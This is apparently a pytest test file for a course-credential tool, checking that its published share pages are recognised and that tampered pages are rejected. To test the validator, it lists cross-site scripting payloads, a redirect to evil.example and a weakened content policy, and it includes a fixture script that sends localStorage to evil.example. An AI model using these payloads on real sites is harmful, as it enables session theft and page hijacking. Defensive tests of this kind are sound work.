"""Share pages found in a kit: as mooc-kit writes them they are published, with any markup more they are not."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from mooc_kit.cohort.share_page import page
from mooc_kit.credentials.certificate_design import Design
from mooc_kit.credentials.published import read_published
from mooc_kit.credentials.share_shape import is_share_page

ID = "0b9b5d4e-6f0a-4a55-9b58-111111111111"
RELEASED = Path(__file__).parents[1] / "fixtures/released/credentials/publish/credentials"
WORDS = st.text(st.characters(exclude_categories=["Cs", "Cc"]), max_size=60)


def shared(name: str = "Field work", description: str = "has done it", outcome: str = "Take a sample") -> bytes:
    design = Design(
        look="classic",
        title="",
        statement="",
        course="River Watch",
        institution="",
        language="en",
        primary="#14505c",
        accent="#8a4b12",
        outcomes=(outcome,),
    )
    return page(
        design,
        name=name,
        description=description,
        issuer="Open Rivers & Co",
        id=f"urn:uuid:{ID}",
        valid_from="2026-04-01T12:00:00Z",
        base="https://rivers.example.org/watch",
    )


@settings(deadline=None, max_examples=40)
@given(WORDS, WORDS, WORDS)
def test_whatever_words_a_course_uses_its_share_page_is_known_again(name: str, words: str, outcome: str) -> None:
    assert is_share_page(shared(name, words, outcome))


def test_share_pages_that_people_have_published_are_known() -> None:
    found = sorted(RELEASED.glob("*.html"))
    assert found
    assert all(is_share_page(path.read_bytes()) for path in found)


ADDED = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<",
    "<!-- -->",
    "<b>",
    "<base href=//evil.example>",
    '" onmouseover="alert(1)',
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<iframe src=x></iframe>",
)


@pytest.mark.parametrize("added", ADDED)
def test_markup_at_any_place_is_refused(added: str) -> None:
    text = shared().decode()
    for place in range(len(text) + 1):
        assert not is_share_page((text[:place] + added + text[place:]).encode()), text[max(0, place - 20) : place]


@pytest.mark.parametrize(
    ("old", "new"),
    [
        (f"../verify.html#c={ID}", "javascript:alert(1)"),
        ("https://www.linkedin.com/profile/add", "https://evil.example/add"),
        ("../index.html", "https://evil.example/"),
        ("default-src 'none'", "default-src *"),
        ("#14505c", "url(https://evil.example/)"),
        ("style-src 'unsafe-inline'", "script-src 'unsafe-inline'"),
    ],
)
def test_another_address_policy_or_style_is_refused(old: str, new: str) -> None:
    text = shared().decode()
    assert old in text
    assert not is_share_page(text.replace(old, new).encode())


def test_what_a_stranger_wrote_in_place_of_a_share_page_is_not_published(tmp_path: Path) -> None:
    folder = tmp_path / "publish/credentials"
    folder.mkdir(parents=True)
    (folder / f"{ID}.html").write_bytes(shared())
    other = f"{ID[:-1]}2.html"
    (folder / other).write_text("<!doctype html><script>fetch('//evil.example?' + localStorage)</script>")
    files, problems = read_published(tmp_path / "publish", "publish", "")
    assert list(files) == [f"credentials/{ID}.html"]
    assert [(p.code, p.place.file) for p in problems] == [("K140", f"publish/credentials/{other}")]
